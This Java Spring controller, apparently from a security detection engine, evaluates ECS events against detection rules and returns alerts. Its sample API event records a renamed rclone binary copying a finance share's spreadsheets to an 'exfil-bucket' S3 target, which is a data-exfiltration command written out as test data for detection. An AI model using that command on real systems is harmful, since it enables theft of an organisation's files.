package io.verdict.api;

import io.swagger.v3.oas.annotations.Operation;
import io.swagger.v3.oas.annotations.Parameter;
import io.swagger.v3.oas.annotations.media.Content;
import io.swagger.v3.oas.annotations.media.ExampleObject;
import io.swagger.v3.oas.annotations.media.Schema;
import io.swagger.v3.oas.annotations.responses.ApiResponse;
import io.swagger.v3.oas.annotations.tags.Tag;
import io.verdict.config.VerdictProperties;
import io.verdict.engine.Alert;
import io.verdict.engine.Detections;
import io.verdict.engine.Detector;
import io.verdict.engine.Evaluation;
import io.verdict.engine.KibanaAlerts;
import io.verdict.engine.Plan;
import io.verdict.engine.Selection;
import io.verdict.engine.VerdictWarnings;
import io.verdict.event.Event;
import io.verdict.explain.AlertTraces;
import io.verdict.output.AlertOutputs;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import java.io.IOException;
import java.time.Clock;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import org.springframework.http.MediaType;
import org.springframework.web.bind.annotation.PostMapping;
import org.springframework.web.bind.annotation.RequestHeader;
import org.springframework.web.bind.annotation.RequestMapping;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.bind.annotation.RestController;
import tools.jackson.databind.ObjectWriter;
import tools.jackson.databind.json.JsonMapper;

/** Evaluates ECS events against the loaded rules: one event, a JSON array, or an NDJSON stream. */
@RestController
@RequestMapping("/api/v1/evaluate")
@Tag(
        name = "Evaluate",
        description = "Verdicts on ECS events: which rules match, with severity, ATT&CK, guide and reason")
class EvaluateController {

    static final String NDJSON = "application/x-ndjson";
    /** The other names clients give NDJSON; each is taken and answered wherever {@link #NDJSON} is. */
    static final String NDJSON_STANDARD = "application/ndjson";

    static final String JSONL = "application/jsonl";

    /** Whether {@code contentType} (parameters and case aside) names NDJSON by any of its names. */
    static boolean ndjson(String contentType) {
        return ndjsonType(contentType) != null;
    }

    /** The NDJSON name {@code header} (a Content-Type or Accept value) uses, or null when it names none. */
    static String ndjsonType(String header) {
        for (String type : List.of(NDJSON, NDJSON_STANDARD, JSONL)) {
            if (names(header, type)) {
                return type;
            }
        }
        return null;
    }

    /** Whether {@code header} names the media type {@code type} itself ({@code application/json} is not jsonl). */
    static boolean names(String header, String type) {
        if (header == null) {
            return false;
        }
        String lower = header.toLowerCase(java.util.Locale.ROOT);
        for (int at = lower.indexOf(type); at >= 0; at = lower.indexOf(type, at + 1)) {
            int end = at + type.length();
            boolean starts = at == 0 || lower.charAt(at - 1) == ',' || lower.charAt(at - 1) == ' ';
            if (starts && (end == lower.length() || ";, ".indexOf(lower.charAt(end)) >= 0)) {
                return true;
            }
        }
        return false;
    }

    private final Detections detections;
    private final PlanCache plans;
    final EventReader reader;
    final VerdictProperties.Evaluate limits;
    final EvaluationMetrics metrics;
    final JsonMapper json;
    private final ObjectWriter verdictWriter;
    private final Clock clock;
    private final AlertTraces traces;
    private final KibanaAlerts.Settings kibana;
    /** Where every alert released here goes besides the answer. */
    final AlertOutputs outputs;

    EvaluateController(
            Detections detections,
            VerdictProperties properties,
            EvaluationMetrics metrics,
            JsonMapper json,
            AlertOutputs outputs,
            Clock clock,
            io.verdict.event.Schema schema) {
        this.detections = detections;
        this.limits = properties.evaluate();
        this.plans = new PlanCache(detections, limits.ruleBudget());
        this.reader = new EventReader(limits, () -> detections.current().fields());
        this.metrics = metrics;
        this.json = json;
        this.verdictWriter = json.writerFor(EvaluateResponse.class);
        this.clock = clock;
        this.traces = new AlertTraces(schema, clock, json);
        this.kibana = properties.kibana().settings();
        this.outputs = outputs;
    }

    /** What a request asks besides its events. */
    record Options(boolean kibana, boolean includeEvent, Selection selection, boolean explain) {}

    @PostMapping(consumes = MediaType.APPLICATION_JSON_VALUE, produces = MediaType.APPLICATION_JSON_VALUE)
    @Operation(
            summary = "Evaluate one event",
            description = "Runs one ECS event (nested or dotted keys) against the"
                    + " selected rules and returns an alert for each rule that matches.",
            requestBody =
                    @io.swagger.v3.oas.annotations.parameters.RequestBody(
                            required = true,
                            content =
                                    @Content(
                                            mediaType = MediaType.APPLICATION_JSON_VALUE,
                                            schema = @Schema(type = "object"),
                                            examples =
                                                    @ExampleObject(name = "rclone copy to S3", value = RCLONE_EVENT))))
    @ApiResponse(
            responseCode = "200",
            description = "the verdict",
            content =
                    @Content(
                            mediaType = MediaType.APPLICATION_JSON_VALUE,
                            schema = @Schema(implementation = EvaluateResponse.class)))
    void evaluate(
            HttpServletRequest request,
            HttpServletResponse response,
            @Parameter(description = "verdict (default) or kibana: alerts as Kibana detection-alert documents")
                    @RequestParam(defaultValue = "verdict")
                    String format,
            @Parameter(description = "include the event in each alert")
                    @RequestParam(name = "include_event", defaultValue = "false")
                    boolean includeEvent,
            @Parameter(description = "only these rule_ids (repeat or comma-separate)")
                    @RequestParam(name = "rule_id", required = false)
                    List<String> ruleIds,
            @Parameter(description = "only rules with one of these tags") @RequestParam(name = "tag", required = false)
                    List<String> tags,
            @Parameter(description = "only rules of these types") @RequestParam(name = "type", required = false)
                    List<String> types,
            @Parameter(
                            description = "add to each alert the clause tree that made it match (explanation; Kibana"
                                    + " format: verdict.explanation); computed only for alerts")
                    @RequestParam(defaultValue = "false")
                    boolean explain)
            throws IOException {
        Options options = options(format, includeEvent, ruleIds, tags, types, explain);
        Detector detector = detections.current();
        Plan plan = plans.plan(detector, options.selection(), limits.unroutedEvents());
        Event event = reader.single(request.getInputStream());
        Evaluation evaluation = evaluate(plan, event, options);
        Evaluation chained = outputs.release(detector, evaluation.alerts(), options.includeEvent());
        if (chained.matched() || !chained.failures().isEmpty()) {
            metrics.alerts(chained);
            evaluation = evaluation.plus(chained);
        }
        write(
                response,
                new EvaluateResponse(
                        evaluation.matched(),
                        alerts(detector, evaluation, event, options),
                        evaluation.evaluated(),
                        evaluation.notRouted(),
                        plan.skipped(),
                        evaluation.failures().stream()
                                .map(f -> new EvaluateResponse.RuleError(f.ruleId(), f.reason(), f.message()))
                                .toList(),
                        event.envelope().isEmpty() ? null : event.envelope(),
                        VerdictWarnings.of(plan, event, evaluation)));
    }

    /**
     * Writes the verdict straight to the response with a writer made once: Spring's return-value handling
     * (converter lookup, content negotiation, type resolution) cost more per request than serialising the answer
     * (JFR, single events at 1,000/s). The mapping's {@code produces} has already answered 406 to an Accept that
     * excludes JSON, so JSON is what the client takes.
     */
    private void write(HttpServletResponse response, EvaluateResponse verdict) throws IOException {
        response.setContentType(MediaType.APPLICATION_JSON_VALUE);
        verdictWriter.writeValue(response.getOutputStream(), verdict);
    }

    @PostMapping(
            path = "/_batch",
            consumes = {MediaType.APPLICATION_JSON_VALUE, NDJSON, NDJSON_STANDARD, JSONL},
            produces = {MediaType.APPLICATION_JSON_VALUE, NDJSON, NDJSON_STANDARD, JSONL})
    @Operation(summary = "Evaluate a batch of events", description = """
            Body: a JSON array of events, or application/x-ndjson with one event a line; both are read as a stream. \
            A line or element that is not a JSON object is reported with its line number (or index) and the batch \
            goes on. With Accept: application/x-ndjson the answer streams out one line per alert as it is found \
            ({"type":"alert","line":n,"alert":{...}}), then error lines and a closing summary line.""")
    @ApiResponse(
            responseCode = "200",
            description = "the verdicts: one JSON document, or with Accept:"
                    + " application/x-ndjson one line per alert, error and a closing summary",
            content = {
                @Content(
                        mediaType = MediaType.APPLICATION_JSON_VALUE,
                        schema = @Schema(implementation = BatchResponse.class)),
                @Content(mediaType = NDJSON, schema = @Schema(ref = "#/components/schemas/BatchLine")),
                @Content(mediaType = NDJSON_STANDARD, schema = @Schema(ref = "#/components/schemas/BatchLine")),
                @Content(mediaType = JSONL, schema = @Schema(ref = "#/components/schemas/BatchLine"))
            })
    Object batch(
            HttpServletRequest request,
            HttpServletResponse response,
            @RequestHeader(name = "Accept", required = false) String accept,
            @RequestParam(defaultValue = "verdict") String format,
            @RequestParam(name = "include_event", defaultValue = "false") boolean includeEvent,
            @RequestParam(name = "rule_id", required = false) List<String> ruleIds,
            @RequestParam(name = "tag", required = false) List<String> tags,
            @RequestParam(name = "type", required = false) List<String> types,
            @RequestParam(defaultValue = "false") boolean explain)
            throws IOException {
        Options options = options(format, includeEvent, ruleIds, tags, types, explain);
        Detector detector = detections.current();
        Plan plan = plans.plan(detector, options.selection(), limits.unroutedEvents());
        boolean ndjsonIn = ndjson(request.getContentType());
        BatchRun run = new BatchRun(this, detector, plan, options, ndjsonIn);
        String ndjsonOut = ndjsonType(accept);
        if (ndjsonOut != null && !names(accept, MediaType.APPLICATION_JSON_VALUE)) {
            response.setContentType(ndjsonOut);
            run.stream(request.getInputStream(), response.getOutputStream());
            return null;
        }
        return run.collect(request.getInputStream());
    }

    Evaluation evaluate(Plan plan, Event event, Options options) {
        long started = System.nanoTime();
        Evaluation evaluation = plan.evaluate(event, options.includeEvent());
        metrics.record(evaluation, System.nanoTime() - started);
        return evaluation;
    }

    /** A batch's event on a worker: the stateless rules' alerts, and the stateful rules it goes to later. */
    Plan.Decided decide(Plan plan, Event event, Options options) {
        long started = System.nanoTime();
        Plan.Decided decided = plan.decide(event, options.includeEvent());
        metrics.record(decided.evaluation(), System.nanoTime() - started);
        return decided;
    }

    List<Object> alerts(Detector detector, Evaluation evaluation, Event event, Options options) {
        List<Object> shaped = shape(detector, evaluation, options);
        return options.explain() && !shaped.isEmpty()
                ? traces.attach(detector, evaluation.alerts(), shaped, event)
                : shaped;
    }

    private List<Object> shape(Detector detector, Evaluation evaluation, Options options) {
        if (!options.kibana()) {
            return List.copyOf(evaluation.alerts());
        }
        Instant now = clock.instant();
        List<Object> documents = new ArrayList<>(evaluation.alerts().size());
        for (Alert alert : evaluation.alerts()) {
            detector.find(alert.rule().ruleId())
                    .ifPresent(rule -> documents.add(KibanaAlerts.document(alert, rule.rule(), now, kibana)));
        }
        return documents;
    }

    private static Options options(
            String format,
            boolean includeEvent,
            List<String> ruleIds,
            List<String> tags,
            List<String> types,
            boolean explain) {
        if (!format.equals("verdict") && !format.equals("kibana")) {
            throw new InvalidParameterException("format", format, List.of("verdict", "kibana"));
        }
        if (ruleIds == null && tags == null && types == null) {
            return new Options(format.equals("kibana"), includeEvent, Selection.ALL, explain);
        }
        // unknown values are refused when the selection is planned (PlanCache), against the rules then in force
        return new Options(
                format.equals("kibana"),
                includeEvent,
                new Selection(split(ruleIds), split(tags), split(types)),
                explain);
    }

    private static Set<String> split(List<String> values) {
        if (values == null) {
            return Set.of();
        }
        return values.stream()
                .flatMap(v -> Arrays.stream(v.split(",")))
                .map(String::strip)
                .filter(v -> !v.isEmpty())
                .collect(java.util.stream.Collectors.toSet());
    }

    static final String RCLONE_EVENT = """
            {
              "@timestamp": "2026-11-27T10:15:00.000Z",
              "event": {"category": ["process"], "type": ["start"], "kind": "event", "ingested": "2026-11-27T10:15:01.000Z"},
              "host": {"name": "fin-ws-042", "os": {"type": "windows"}},
              "user": {"name": "j.doe"},
              "process": {
                "name": "TrendFileSecurityCheck.exe",
                "pe": {"original_file_name": "rclone.exe"},
                "executable": "C:\\\\Users\\\\Public\\\\TrendFileSecurityCheck.exe",
                "args": ["TrendFileSecurityCheck.exe", "copy", "\\\\\\\\fs01\\\\finance", ":s3:exfil-bucket/q4", "--include", "*.xlsx", "--transfers", "32"],
                "parent": {"name": "cmd.exe"}
              },
              "data_stream": {"type": "logs", "dataset": "endpoint.events.process", "namespace": "default"}
            }""";
}
